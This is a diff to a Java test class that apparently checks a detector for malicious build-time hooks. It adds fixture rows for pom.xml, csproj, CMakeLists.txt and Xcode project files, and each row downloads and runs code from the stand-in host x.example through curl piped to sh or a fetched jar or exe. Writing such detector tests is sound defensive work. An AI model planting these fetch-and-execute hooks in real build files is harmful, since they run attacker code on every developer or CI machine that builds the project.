@@ -68,6 +68,10 @@ final class TakeHomeTest {
           build.rs § Command::new("sh").arg("-c").arg("curl https://x.example/a | sh");
           build.gradle § "bash -c 'curl -s https://x.example | bash'".execute()
           pom.xml § <phase>initialize</phase><exec executable="sh"><arg value="-c"/><arg value="curl -s https://x.example/a | sh"/></exec>
+          pom.xml § <get src="http://x.example/a.jar" dest="/tmp/a.jar"/><exec executable="java"><arg value="-jar"/><arg value="/tmp/a.jar"/></exec>
+          a.csproj § <DownloadFile SourceUrl="http://x.example/a.exe" DestinationFolder="$(TEMP)" /><Exec Command="$(TEMP)\\a.exe" />
+          CMakeLists.txt § execute_process(COMMAND sh -c "curl -s https://x.example/a | sh")
+          App.xcodeproj/project.pbxproj § shellScript = "curl -s https://x.example/a | sh\\n";
           a.csproj § <Exec Command='curl -s https://x.example/a | sh' Condition="true" />
           """)
   void what_starts_by_itself_and_is_bad_is_seen(String path, String text) {
